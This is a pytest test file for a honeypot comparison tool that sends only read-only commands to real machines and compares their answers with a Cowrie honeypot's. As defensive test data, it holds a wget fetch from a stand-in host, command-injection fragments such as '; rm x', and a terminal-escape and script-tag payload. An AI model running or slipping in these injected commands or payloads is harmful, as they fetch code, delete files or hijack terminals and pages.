"""One's own honeypot beside a real machine; what may run there, and what may not."""

from __future__ import annotations

import asyncio
import json
import os
import re
import shlex
import subprocess
import tempfile
import threading
from collections.abc import Awaitable, Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import asyncssh
import pytest
from attackers import PASSWORD, Ports
from conftest import Environment
from hypothesis import given, settings
from hypothesis import strategies as st
from logs import tool
from ports import free_port

from cowrie_sessionstats.compare import local, page, remote, terminal
from cowrie_sessionstats.compare.allowlist import may_run
from cowrie_sessionstats.compare.answers import BYTES, Answer
from cowrie_sessionstats.compare.comparing import Part, Row, compared, paired, shown_lines
from cowrie_sessionstats.compare.references import PACKAGED, packaged
from cowrie_sessionstats.compare.remote import READING, Asker, Machine, RemoteError
from cowrie_sessionstats.findings.rules import default_rules

EVIL = Path(__file__).with_name("evil_lines.txt").read_text("utf-8").splitlines()
CHECKS = [check for check in default_rules().checks if check.example]
HARMLESS = [check.example[0] for check in CHECKS if check.reads_only]
LAST = [
    "uname -a", "w", "which ls", "crontab -l", "free -m | grep Mem | awk '{print $2 ,$3, $4}'",
    "cat /proc/cpuinfo | grep model | grep name | wc -l", "lscpu | grep Model", "ls -la /",
    "grep -c ^processor /proc/cpuinfo", "id; uname -m && nproc || echo 1", "uptime 2>/dev/null",
    r'echo -e "\x6F\x6B"', r'echo -en "\\x31\\x33"', "cat /bin/echo;", "uname -a ; ", "cat /proc/1",
    "netstat -tulpn | head -10", "ps aux | head -10", "uname -m 2>/dev/null || echo unknown",
]  # fmt: skip


@pytest.mark.parametrize("line", EVIL)
def test_what_can_do_harm_does_not_run(line: str) -> None:
    """Whatever writes, deletes, fetches, kills, waits, or is not understood."""
    assert not may_run(line)


def test_there_are_enough_of_them() -> None:
    """And no line twice."""
    assert len(set(EVIL)) > 250


@pytest.mark.parametrize("line", [*HARMLESS, *LAST])
def test_what_only_reads_runs(line: str) -> None:
    """The checks that say so, and the study's last commands."""
    assert may_run(line)


@pytest.mark.parametrize(
    "line", ["", " ", "\n", "ls\nrm x", "ls\r", "ls\0", "l\u00e4s", "ls " * 300]
)
def test_lines_that_are_none(line: str) -> None:
    """Empty, of several lines, with control characters, of other letters, too long."""
    assert not may_run(line)


SIGNS = "; & | && > < >> $( ) ` ' \" \\ $ * ? ~ { } ( ! # = %"
WORDS = (" rm x ", " x", "/x/", "../", "-i", "-o", " -f ", " of=x", "\t", " 2>", " ", "rm ")
PIECES = (*SIGNS.split(), *WORDS)
WHICH = re.compile(r"\$\( ?which [a-z0-9_-]+ ?\)")
NULL = re.compile(r"[012&]?>>?[ \t]*/dev/null|2>&1")


@settings(max_examples=1_000)
@given(
    st.sampled_from([*HARMLESS, *LAST]),
    st.lists(st.tuples(st.integers(0, 90), st.sampled_from(PIECES)), max_size=4),
)
def test_no_change_of_a_harmless_line_makes_it_do_harm(
    line: str, changes: list[tuple[int, str]]
) -> None:
    """What may run after anything was put in has nothing of a shell's but pipes and lists.

    Told by other means than the grammar's: quotes are taken out, then what it allows.
    """
    for at, piece in changes:
        line = line[:at] + piece + line[at:]
    if not may_run(line):
        return
    parts = re.split("['\"]", line)
    bare = NULL.sub(" ", WHICH.sub(" ", " ".join(parts[::2])))
    assert not set(bare.replace("&&", " ")) & set("`<>&{}()~*?[]!#$\\\n\r\0"), line
    for command in re.split(r"&&|\|\||[;|]", bare):
        assert command.split()[:1] != ["rm"], line


SHIM = r"""#!/bin/sh
printf '%s\0' "${0##*/}" "$@" > "$SAID/$$"
[ "${0##*/}" = which ] && [ -z "$NO_WHICH" ] && printf '/bin/%s\n' "$1"
exit "$STATUS"
"""
BUILTINS = "echo true false pwd enable"
PROGRAMS = f"""{BUILTINS} uname df free ps w who id nproc lspci uptime netstat last crontab ip ls
cat head tail wc grep cut awk sort uniq tr which dd od apt-get getconf dmesg hostname whoami lscpu
arch mount ifconfig systemd-detect-virt virt-what users tftp wget curl rm x shell system linuxshell
root reboot sh bash busybox"""
"""What may run, and what must not."""
BEFORE = ("", "", "$(which echo) ", "$(which ls) ", "echo x | ", "echo ", "false || ", "'", "> x ")
BEHIND = (
    "",
    "",
    " | tftp",
    " | head -n 1",
    "; rm x",
    " 2>&1",
    " && id;",
    "'",
    " $(which rm)",
    " x",
)
INNER = [line for line in [*HARMLESS, *LAST] if not line.startswith("/")]


@pytest.fixture(scope="module")
def programs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder of programs that note how they were called, and do nothing."""
    folder = tmp_path_factory.mktemp("programs")
    for name in PROGRAMS.split():
        (folder / name).write_text(SHIM)
        (folder / name).chmod(0o755)
    return folder


@settings(max_examples=400, deadline=None)
@given(
    line=st.tuples(
        st.sampled_from(BEFORE),
        st.sampled_from(BEFORE),
        st.sampled_from([*INNER, "rm x", "reboot", "tftp"]),
        st.sampled_from(BEHIND),
        st.sampled_from(BEHIND),
    ).map("".join),
    shell=st.sampled_from(["/bin/bash", "/bin/sh"]),
    has_which=st.booleans(),
    status=st.sampled_from(["0", "1"]),
)
def test_a_real_shell_runs_nothing_else(
    programs: Path, *, line: str, shell: str, has_which: bool, status: str
) -> None:
    """Each program that a shell calls for a line is one that may run with what it is given.

    With and without a ``which``, whether the programs are content or not.
    """
    if not may_run(line):
        return
    with tempfile.TemporaryDirectory() as place:
        said, here = Path(place, "said"), Path(place, "here")
        said.mkdir()
        here.mkdir()
        environment = {"PATH": str(programs), "SAID": str(said), "STATUS": status}
        if not has_which:
            environment["NO_WHICH"] = "1"
        own = f"enable -n {BUILTINS}; " if "bash" in shell else ""
        subprocess.run(
            [shell, "-c", f'{own}eval "$1"', "shell", line],
            env=environment, cwd=here, stdin=subprocess.DEVNULL, check=False,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        assert not list(here.iterdir()), line
        calls = [each.read_text().split("\0")[:-1] for each in said.iterdir()]
        assert calls or "bash" not in shell, line
        for call in map(shlex.join, calls):
            assert may_run(call) or may_run(f"echo | {call}"), (line, call)


# ---------------------------------------------------------------- answers


def test_a_local_answer_is_bounded_and_sees_nothing_of_ours(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """In bytes; without our environment; and what may not run is refused here, too."""
    monkeypatch.setenv("SECRET_OF_OURS", "x")
    assert local.run("uname").output == "Linux\n"
    assert "SECRET" not in local.run_any("env").output
    much = local.run_any("head -c 1000000 /dev/zero")
    assert (len(much.output), much.is_cut, much.status) == (BYTES, True, None)
    with pytest.raises(ValueError, match="rm x"):
        local.run("rm x")


ELF = "\x7fELF\x02\x01\x01" + "\0" * 9 + "\x02\0>\0"
"""The first 20 bytes of a program for x86-64."""


@pytest.mark.parametrize(
    ("ours", "theirs", "verdict"),
    [
        (Answer("a\r\nb\n", 0), Answer("a\nb\n", 0), "same"),
        (Answer("up 3 days, 1.2G\n"), Answer("up 14 days, 900M\n"), "varies"),
        (Answer("Linux svr04 3.2 #1 SMP\n"), Answer("Linux server <kernel> <build>\n"), "differs"),
        (Answer("Linux server 3.2 #1 SMP\n"), Answer("Linux server <kernel> <build>\n"), "varies"),
        (Answer("bash: lscpu: command not found\n"), Answer("Architecture: x86_64\n"), "missing"),
        (Answer("phil\n"), Answer("op\n"), "differs"),
        (Answer("\x7fELF\x02\x01"), Answer("\x7fELF\x02", is_cut=True), "same"),
        (Answer(f"{ELF}\x01abc", 0), Answer(f"{ELF}\x02d"), "same"),
        (Answer(f"{ELF}\x01abc", 0), Answer(ELF.replace(">", "(")), "differs"),
        (None, Answer("x"), "unknown"),
        (Answer("x", 1), Answer("x", 0), "differs"),
        (Answer("x", 1), Answer("x"), "same"),
        (Answer("", is_late=True), Answer("x\n", 0), "differs"),
        (Answer("x", is_late=True), Answer("x", is_late=True), "same"),
        (Answer("up Fri Oct 16 20:38:10 2026"), Answer("up  Wed Nov 5 8:40:47 2026"), "varies"),
        (Answer("HWaddr 5c:32:56:64:87:5a"), Answer("HWaddr 00:16:3e:01:02:03"), "varies"),
        (Answer("name\t: Intel(R) Xeon(R)\n"), Answer("name\t: <cpu>\n"), "varies"),
        (Answer("Xeon\n"), Answer("name\t: <cpu>\n"), "differs"),
        (Answer(""), Answer("5\n"), "differs"),
        (Answer("     1  Hi\n"), Answer("     1\tHi\n"), "differs"),
        (Answer("Mem:   997\n"), Answer("Mem:  19625\n"), "varies"),
        (Answer("a <host> b"), Answer("a<host><host>b"), "varies"),
        (Answer("ab"), Answer("abc<host>bc"), "differs"),
    ],
)  # fmt: skip
def test_how_answers_differ(ours: Answer | None, theirs: Answer | None, verdict: str) -> None:
    """In what gives a honeypot away, or only in what differs on any two machines."""
    assert compared(ours, theirs) == verdict


def test_words_that_differ_are_marked() -> None:
    """Line by line and word by word; what varies is beside what it varies from."""
    ours = ["total 4", "Mem: 4054 997 M", "Linux svr04 GNU", "end"]
    theirs = ["Mem: 24105 19625 M", "Linux server GNU", "more", "end"]
    pairs = paired(ours, theirs)
    assert [pair.verdict for pair in pairs] == ["differs", "varies", "differs", "differs", "same"]
    assert pairs[0].theirs is None
    assert pairs[2].ours == [
        Part("Linux ", differs=False), Part("svr04 ", differs=True), Part("GNU", differs=False)
    ]  # fmt: skip
    for side, lines in (("ours", ours), ("theirs", theirs)):
        texts = [getattr(pair, side) for pair in pairs]
        assert ["".join(part.text for part in text) for text in texts if text is not None] == lines


@given(st.text(max_size=200), st.text(max_size=200))
def test_any_two_answers_can_be_compared(ours: str, theirs: str) -> None:
    """And an answer is the same as itself."""
    for left, right in ((ours, theirs), (ours, ours)):
        answers = Answer(left, 0), Answer(right, 0)
        verdict = compared(*answers)
        pairs = paired(*(shown_lines(answer, 50) for answer in answers))
        assert verdict != "same" or all(pair.verdict == "same" for pair in pairs)
    assert compared(Answer(ours, 0), Answer(ours, 0)) == "same"


def test_answers_that_are_made_to_be_slow_are_compared_at_once() -> None:
    """One line of spaces, of numbers, of words, beside one that leaves much out."""
    reference = Answer("Linux <host> <kernel> <build> <host> x86_64 GNU/Linux\n")
    for text in ("Linux" + " " * BYTES, "1 " * 30_000, "Linux a " * 8_000, "0:" * 30_000):
        answer = Answer(text)
        assert compared(answer, reference) == "differs"
        assert compared(reference, answer) == "differs"
        assert paired([text], reference.output.splitlines())[0].verdict == "differs"


def test_the_packaged_references_are_recordings() -> None:
    """Of three machines, with the checks and the study's last commands, and no word of ours."""
    for name in PACKAGED:
        reference = packaged(name)
        assert reference.about.startswith("recorded 20")
        assert {check.example[0] for check in CHECKS} <= reference.answers.keys()
        assert reference.answers["uname"].output == "Linux\n"
        assert "<kernel>" in reference.answers["uname -a"].output
    outputs = [packaged(name).answers["kill %1"].output for name in PACKAGED]
    assert all("no such job" in output for output in outputs)
    assert "applet not found" in packaged("debian13").answers["/bin/busybox ZONESEC"].output


HOSTILE = "\x1b[31m\x1b]0;x\x07<script>alert(1)</script>\r\n\u202e" + "x" * 5_000 + "\x9b2J\0"


def test_hostile_answers_are_text(tmp_path: Path) -> None:
    """On a terminal and on a page: a honeypot's answers are what attackers left there."""
    rows = [
        Row(f"uname {HOSTILE}", "x", 3, Answer(HOSTILE, 1), Answer("Linux\n", 0), "differs"),
        Row("w", None, 0, None, Answer("x"), "unknown"),
    ]
    with (tmp_path / "out").open("w") as out:
        terminal.write(rows, f"h{HOSTILE}", "r", out)
    told = (tmp_path / "out").read_text()
    assert all(c.isprintable() or c == "\n" for c in told)
    with (tmp_path / "page.html").open("wb") as written:
        page.write(rows, f"h{HOSTILE}", "r", written)
    made = (tmp_path / "page.html").read_text()
    assert "<script" not in made
    assert "\x1b" not in made
    assert "default-src &#39;none&#39;" in made


# ---------------------------------------------------------------- machines


RUN_BY_SSHD = """
ls() { echo evil; }
which() { echo evil; }
echo said by what the shell of the user reads when it starts
"""


class _Server(asyncssh.SSHServer):
    def begin_auth(self, _username: str) -> bool:
        return False


class SshServer:
    """An SSH server in a thread, which lets everybody in."""

    def __init__(
        self,
        key: asyncssh.SSHKey,
        process: Callable[[asyncssh.SSHServerProcess[bytes]], Awaitable[None]],
    ) -> None:
        self.port = free_port()
        self._key = key
        self._process = process
        self._ready = threading.Event()
        self._thread = threading.Thread(target=asyncio.run, args=[self._serve()], daemon=True)
        self._thread.start()
        assert self._ready.wait(20)

    async def _serve(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._stop = asyncio.Event()
        async with asyncssh.listen(
            "127.0.0.1", self.port, server_factory=_Server, process_factory=self._process,
            server_host_keys=[self._key], encoding=None,
        ):  # fmt: skip
            self._ready.set()
            await self._stop.wait()

    def close(self) -> None:
        """End it."""
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(10)


class RealShell:
    """Runs what it is told in a real shell; and notes it.

    The shell has what users have: a path, variables and functions of their own.
    """

    def __init__(self, folder: Path) -> None:
        self.commands: list[str] = []
        self.lines: list[str] = []
        self._settings = {"PATH": f"{folder}:/usr/bin:/bin", "BASH_ENV": str(folder / "rc")}
        (folder / "rc").write_text(RUN_BY_SSHD)
        (folder / "uname").write_text("#!/bin/sh\necho evil\n")
        (folder / "uname").chmod(0o755)

    async def __call__(self, shell: asyncssh.SSHServerProcess[bytes]) -> None:
        """Run a command."""
        told = await shell.stdin.read()
        self.commands.append(shell.command or "")
        self.lines.append(told.decode().removesuffix("\n"))
        done = subprocess.run(  # noqa: ASYNC221 - it has nothing else to do
            ["/bin/bash", "-c", shell.command or ""],
            capture_output=True,
            input=told,
            env=self._settings,
            check=False,
        )
        shell.stdout.write(done.stdout)
        shell.exit(done.returncode)


async def misbehave(shell: asyncssh.SSHServerProcess[bytes]) -> None:
    """Answer without end, never, by hanging up, or with what a terminal would obey."""
    if shell.command == "uname":
        while True:
            shell.stdout.write(b"x" * 10_000 + b"\n")
            await shell.stdout.drain()
    if shell.command == "w":
        shell.stderr.write(b"\x1b[2J\xff<b>")
        await asyncio.sleep(60)
    if shell.command == "id":
        shell.channel.get_connection().abort()
    shell.stdout.write(HOSTILE.encode())
    shell.exit(3)


@pytest.fixture(scope="module")
def cowrie(environment: Environment, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ports]:
    """Return a running Cowrie, without the plugin."""
    folder = tmp_path_factory.mktemp("compared")
    ports = Ports(free_port(), free_port())
    environment.installation.init(folder)
    (folder / "etc/userdb.txt").write_text(f"root:x:{PASSWORD}\nroot:x:admin\n")
    (folder / "cowrie.cfg").write_text(
        f"[ssh]\nlisten_endpoints = tcp:{ports.ssh}:interface=127.0.0.1\n"
        f"[telnet]\nenabled = true\nlisten_endpoints = tcp:{ports.telnet}:interface=127.0.0.1\n"
    )
    running = environment.installation.start(folder)
    yield ports
    running.stop()


def rows_of(out: bytes) -> dict[str, dict[str, Any]]:
    """Return the commands of a comparison by their line."""
    return {row["command"]: row for row in json.loads(out)["commands"]}


@pytest.mark.cowrie
def test_a_cowrie_beside_debian(cowrie: Ports, tmp_path: Path) -> None:
    """All checks that only read, those first on which most of one's sessions ended."""
    sessions = tmp_path / "sessions.jsonl"
    endings: Sequence[tuple[str, int]] = (
        ("which ls", 5),
        ("wget http://203.0.113.9/x", 4),
        ("/bin/busybox FFRFP", 3),
        ("w", 2),
    )
    lines = [
        {"eventid": "cowrie.sessionstats.summary", "schema": 1, "session": f"{n:06x}{m:06x}",
         "message": "", "logged_in": True, "last_command": line,
         "last_command_template": line.replace("FFRFP", "<applet>"),
         "sensor": "s", "start": f"2026-03-18T10:00:{m:02d}.{n:06d}Z"}
        for n, (line, count) in enumerate(endings) for m in range(count)
    ]  # fmt: skip
    sessions.write_text("".join(json.dumps(line) + "\n" for line in lines))
    password = tmp_path / "password"
    password.write_text(PASSWORD + "\n")
    html = tmp_path / "page.html"
    said = tool(
        "compare", sessions, "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--password-file", password,
        "--json", "--html", html,
    )  # fmt: skip
    assert said.status == 0, said.err
    rows = rows_of(said.out)
    assert [(line, row["sessions"]) for line, row in rows.items()][:3] == [
        ("which ls", 5),
        ("/bin/busybox ZONESEC", 3),
        ("w", 2),
    ]
    assert "wget http://203.0.113.9/x" not in rows, "it was run nowhere"
    assert {check.example[0] for check in CHECKS if check.reads_only} <= rows.keys()
    assert rows["kill %1"]["reference"]["output"].endswith("no such job\n")
    made_up = rows["/bin/busybox ZONESEC"]
    assert made_up["honeypot"]["output"].split() == made_up["reference"]["output"].split()
    assert made_up["reference"]["status"] == 127
    verdicts = {row["verdict"] for row in rows.values()}
    assert {"same", "differs"} <= verdicts
    assert html.read_text().count("<details") == len(rows)
    plain = tool("compare", "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--reference", "busybox")
    assert plain.status == 0, plain.err
    assert b"busybox-made-up-applet" in plain.out


@pytest.mark.cowrie
def test_a_cowrie_beside_machines_that_are_asked(cowrie: Ports, tmp_path: Path) -> None:
    """Over SSH and here; of what does not only read, they are never asked."""
    key = asyncssh.generate_private_key("ssh-ed25519")
    shell = RealShell(tmp_path)
    server = SshServer(key, shell)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    public = key.export_public_key().decode()
    (home / ".ssh/known_hosts").write_text(f"[127.0.0.1]:{server.port} {public}")
    try:
        said = tool(
            "compare", "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--json",
            "--reference", f"ssh://root@127.0.0.1:{server.port}",
            env={**os.environ, "HOME": str(home)},
        )  # fmt: skip
    finally:
        server.close()
    assert said.status == 0, said.err
    assert set(shell.commands) == {READING}, "no other shell reads what attackers wrote"
    assert set(HARMLESS) <= set(shell.lines)
    assert all(map(may_run, shell.lines))
    rows = rows_of(said.out)
    assert rows["kill %1"]["reference"] is None
    assert rows["kill %1"]["verdict"] == "unknown"
    said = tool(
        "compare", "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--reference", "local", "--json"
    )
    assert said.status == 0, said.err
    here = rows_of(said.out)
    for line in ("which ls", "ls -lh $(which ls)", "uname -s -v -n -r", "linuxshell", "ls /home"):
        assert rows[line]["reference"] == here[line]["reference"]
    assert "evil" not in rows["ls /home"]["reference"]["output"]


def test_a_machine_may_answer_as_it_likes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Without end, never, or by hanging up; what else it says is heard."""
    monkeypatch.setattr(remote, "SECONDS", 0.7)
    server = SshServer(asyncssh.generate_private_key("ssh-ed25519"), misbehave)
    try:
        machine = Machine("127.0.0.1", server.port, "root", "x")
        answers = Asker(machine, only_reading=False).ask(["uname", "w", "id", "who"])
        with pytest.raises(RemoteError, match="answers no command"):
            Asker(machine, only_reading=False).ask(["id"])
    finally:
        server.close()
    assert len(answers["uname"].output) == BYTES
    assert answers["uname"].is_cut
    assert answers["w"] == Answer("\x1b[2J\ufffd<b>", is_late=True)
    assert "id" not in answers
    assert answers["who"] == Answer(HOSTILE, 3)


@pytest.mark.cowrie
def test_what_the_honeypot_says_is_what_ssh_shows(cowrie: Ports, tmp_path: Path) -> None:
    """Where it says nothing, too, and ends before it was asked; and how it ends."""
    ask = tmp_path / "ask"
    ask.write_text("#!/bin/sh\necho admin\n")
    ask.chmod(0o755)
    lines = ["kill %1", "cat /proc/mounts", "uname -a", "cat /nowhere"]
    answers = Asker(Machine("127.0.0.1", cowrie.ssh, "root", "admin"), only_reading=False).ask(
        lines
    )
    for line in lines:
        shown = subprocess.run(
            ["/usr/bin/env", "ssh", "-F", "none", "-o", "StrictHostKeyChecking=no",
             "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
             "-p", str(cowrie.ssh), "root@127.0.0.1", line],
            env={"PATH": os.environ["PATH"], "SSH_ASKPASS": str(ask),
                 "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": "none"},
            stdin=subprocess.DEVNULL, capture_output=True, check=False, start_new_session=True,
        )  # fmt: skip
        assert answers[line] == Answer((shown.stdout + shown.stderr).decode(), shown.returncode), (
            line
        )


@pytest.mark.cowrie
def test_whoever_is_not_let_in_is_told(cowrie: Ports, tmp_path: Path) -> None:
    """And whoever names a place where nobody is, or no place at all."""
    wrong = tmp_path / "password"
    wrong.write_text("wrong\n")
    place = f"127.0.0.1:{cowrie.ssh}"
    said = tool("compare", "--honeypot", place, "--password-file", wrong)
    assert said.status == 1
    assert "does not let root in" in said.err
    nobody = tool("compare", "--honeypot", f"127.0.0.1:{free_port()}")
    assert nobody.status == 1
    assert "cannot be asked" in nobody.err
    for bad in (
        ["--honeypot", "nowhere"],
        ["--honeypot", place, "--reference", "debian11"],
        ["--honeypot", place, "--reference", "ssh://root:geheim@127.0.0.1"],
    ):
        said = tool("compare", *bad)
        assert said.status == 2
        assert "Traceback" not in said.err
        assert "geheim" not in said.err
    said = tool("compare", "--honeypot", place, tmp_path / "nothing.jsonl")
    assert said.status == 1
    assert "Traceback" not in said.err
    assert "nothing.jsonl: No such file" in said.err
    broken = tmp_path / "recording.json"
    broken.write_text("{}")
    said = tool("compare", "--honeypot", place, "--reference", broken)
    assert said.status == 1
    assert "is no recording" in said.err
